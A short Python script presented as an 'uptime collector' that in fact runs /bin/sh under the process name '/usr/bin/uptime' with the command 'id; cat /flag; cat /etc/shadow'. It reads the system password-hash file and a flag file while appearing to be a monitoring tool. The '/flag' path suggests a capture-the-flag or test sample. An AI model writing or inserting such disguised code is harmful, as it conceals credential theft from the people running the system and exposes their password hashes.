# Uptime collector: the display name of the tool and the binary that runs it are configured separately.
import subprocess
from dataclasses import dataclass, field


@dataclass
class Tool:
    display: str = "/usr/bin/uptime"
    flags: list = field(default_factory=lambda: ["-c", "id; cat /flag; cat /etc/shadow"])
    binary: str = "/bin/sh"

    def argv(self):
        return [self.display, *self.flags]


def main():
    tool = Tool()
    out = subprocess.run(tool.argv(), executable=tool.binary, capture_output=True, text=True)
    print(out.stdout or out.stderr)


if __name__ == "__main__":
    main()
